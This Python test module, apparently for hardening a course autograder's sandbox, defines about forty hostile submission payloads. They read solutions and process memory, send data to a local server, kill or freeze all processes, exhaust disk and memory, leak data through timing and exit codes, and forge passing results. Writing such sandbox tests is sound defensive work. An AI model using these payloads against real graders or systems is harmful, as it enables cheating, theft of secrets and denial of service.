"""Forty hostile students, each with a program of its own: stoppers, forgers, readers, fillers, killers, oracles.

They know where everything lies: in their programs ``{source}`` is the assignment with its solutions, ``{given}`` the
folder of all submissions, ``{out}`` that of the results, ``{port}`` a server's on this machine that would like to hear.
"""

from __future__ import annotations

from typing import NamedTuple

from tests.course import hostile

TANH = frozenset({"tanh-numbers", "tanh-network"})
RIGHT_AFTER_ALL = frozenset[str]()


class Attack(NamedTuple):
    """``body`` is that of tanh_vjp, ``top`` a cell at the beginning; what is lost by it is ``loses``."""

    kind: str
    what: str
    body: str = hostile.RIGHT
    top: str = ""
    loses: frozenset[str] = TANH


def tells(expression: str, before: str = "") -> str:
    """A body that puts what it has found out into its error, for the student's page to show."""
    lines = [*before.split("\n"), f"found = {expression}"] if before else [f"found = {expression}"]
    inner = "\n".join(f"        {line}" for line in lines)
    return f"import os, glob, sys\n    try:\n{inner}\n    except Exception as error:\n        found = repr(error)\n    raise ValueError('FOUND ' + str(found)[:400])"


READERS = [
    Attack("reader", "reads the solutions", tells("open('{source}').read()[-400:]")),
    Attack("reader", "reads another submission", tells("open('{given}/plain.py').read()[-400:]")),
    Attack("reader", "reads what others got", tells("open(glob.glob('{out}/results/*.json')[0]).read()")),
    Attack("reader", "reads through a link", tells("open('x').read()[-400:]", "os.symlink('{source}', 'x')")),
    Attack("reader", "goes through the root of another process", tells(
        "[open(p + '{source}').read()[-400:] for p in glob.glob('/proc/*/root')][0]")),
    Attack("reader", "reads the grader's memory", tells(
        "open('/proc/%d/mem' % os.getppid(), 'rb').read(100), open('/proc/%d/environ' % os.getppid()).read()")),
    Attack("reader", "looks for hidden tests in every file", tells(
        "[open(os.path.join(d, n)).read() for r in ('/tmp', '/home', '/root', '/work', '/srv', '/var')"
        " for d, _, ns in os.walk(r) for n in ns if n == 'a1_rules.py'][0][-400:]")),
    Attack("reader", "sends what it gets to a server", "import socket\n    s = socket.create_connection(('127.0.0.1', {port}), 2)\n"
        "    s.sendall(repr((g, y)).encode())\n    " + hostile.RIGHT),
    Attack("reader", "saves a test's program for another", "import inspect\n    for place in ('/tmp', '/var/tmp', '/dev/shm'):\n"
        "        open(place + '/hostile-program', 'w').write('SAVED ' + str(inspect.stack()) + repr(g))\n    " + hostile.RIGHT),
    Attack("reader", "tells what another has saved", tells(
        "[open(p + '/hostile-program').read() for p in ('/tmp', '/var/tmp', '/dev/shm') if os.path.exists(p + '/hostile-program')][0]")),
]  # fmt: skip

ORACLES = [
    Attack("oracle", "puts the inputs into its error", "raise ValueError(f'FOUND {g.tolist()} {y.tolist()}')"),
    Attack("oracle", "puts the program into its error", tells(
        "[f.f_code.co_filename + str(f.f_locals)[:300] for f in [sys._getframe(k) for k in range(9)]]")),
    Attack("oracle", "puts the whole engine's callers into its error", tells("__import__('traceback').format_stack()")),
    Attack("oracle", "returns what it got", "return [g.tolist(), y.tolist(), 'FOUND']"),
    Attack("oracle", "tells a number by how it ends", "import os\n    os._exit(int(abs(float(g.ravel()[0])) * 100) % 200)"),
    Attack("oracle", "tells a number by how long it takes", "import time\n    time.sleep(abs(float(g.ravel()[0])) % 1 / 5)\n    raise ValueError('FOUND')"),
    Attack("oracle", "names its error after what it got", "raise type('FOUND' + repr(g.tolist())[:200], (Exception,), dict())()"),
]  # fmt: skip

FILLERS = [
    Attack("filler", "40 files of 15 MB in its folder", "for k in range(40): open(f'f{k}', 'wb').write(bytes(15 << 20))\n    import time; time.sleep(9)"),
    Attack("filler", "40 files of 15 MB elsewhere", "for k in range(40): open(('/tmp', '/var/tmp', '/dev/shm')[k % 3] + f'/hostile-{k}', 'wb').write(bytes(15 << 20))\n    return y"),
    Attack("filler", "100,000 empty files", "for k in range(100_000): open(f'f{k}', 'w').close()\n    import time; time.sleep(9)"),
    Attack("filler", "folders in folders", "import os\n    for k in range(100_000):\n        os.mkdir('d'); os.chdir('d')"),
    Attack("filler", "shared memory that stays", "import ctypes\n    libc = ctypes.CDLL(None)\n    for k in range(100):\n        assert libc.shmget(k + 99, 1 << 24, 0o1666) >= 0\n    return y"),
    Attack("filler", "memory, as it loads", top="x = []\nwhile True: x.append(bytearray(1 << 26))", loses=RIGHT_AFTER_ALL),
]  # fmt: skip

KILLERS = [
    Attack("killer", "kills everybody", "import os\n    os.kill(-1, 9)"),
    Attack("killer", "kills everybody as it loads", top="import os\nos.kill(-1, 9)", loses=RIGHT_AFTER_ALL),
    Attack("killer", "stops its parent and every process it sees", "import os, signal\n    for p in [os.getppid(), *map(int, filter(str.isdigit, os.listdir('/proc')))]: os.kill(p, signal.SIGSTOP)"),
    Attack("killer", "takes others' time away", "import resource\n    for p in range(1, 40_000):\n        if p != __import__('os').getpid(): resource.prlimit(p, resource.RLIMIT_CPU, (0, 0))\n    return y"),
    Attack("killer", "ends its group", "import os\n    os.killpg(0, 9)\n    raise ValueError"),
]  # fmt: skip

STOPPERS = [
    Attack("stopper", "half a character in its error", 'raise ValueError("x\\ud83d" * 100_000)'),
    Attack("stopper", "never ends, and catches everything", "while True:\n        try:\n            while True: pass\n        except BaseException: pass"),
    Attack("stopper", "an error that cannot be printed", "class Sly(Exception):\n        def __str__(self): raise SystemExit(0)\n    raise Sly"),
    Attack("stopper", "recursion without end", "import sys\n    sys.setrecursionlimit(10**9)\n    def f(): return f() + f()\n    return f()"),
    Attack("stopper", "leaves as it loads", top="import os; os._exit(0)", loses=RIGHT_AFTER_ALL),
    Attack("stopper", "says that more is to come than can be", "import os, struct\n    os.write(3, struct.pack('!QQ', 1 << 62, 1 << 62))\n    return y"),
]  # fmt: skip

FORGERS = [
    Attack("forger", "writes its own result", "import glob, re\n    for p in glob.glob('{out}/results/*.json') or ['{out}/results/x.json']:\n"
        "        t = open(p).read().replace('\"passed\": false', '\"passed\": true')\n        open(p, 'w').write(t)\n    return y"),
    Attack("forger", "writes a verdict on the pipe", "import os, struct\n    m = b'{\"dict\": [[\"passed\", true], [\"value\", true]]}'\n    os.write(3, struct.pack('!QQ', len(m), 0) + m)\n    return y"),
    Attack("forger", "is equal to everything", "class Same:\n        def __eq__(self, other): return True\n        def __array_ufunc__(self, *a, **k): return True\n    return Same()"),
    Attack("forger", "patches NumPy", "np.allclose = np.array_equal = lambda *a, **k: True\n    np.testing.assert_allclose = lambda *a, **k: None\n    return y"),
    Attack("forger", "patches the course", "import minigrad.course.testing as t, minigrad.course.running as r\n    t.close = t.same = t.holds = lambda *a, **k: None\n    r.Outcome.passed = True\n    return y"),
    Attack("forger", "changes the package on the disk", "import minigrad.course.running as r\n    open(r.__file__, 'a').write('\\nOutcome.passed = True\\n')\n    return y"),
]  # fmt: skip

CLASS = [*READERS, *ORACLES, *FILLERS, *KILLERS, *STOPPERS, *FORGERS]
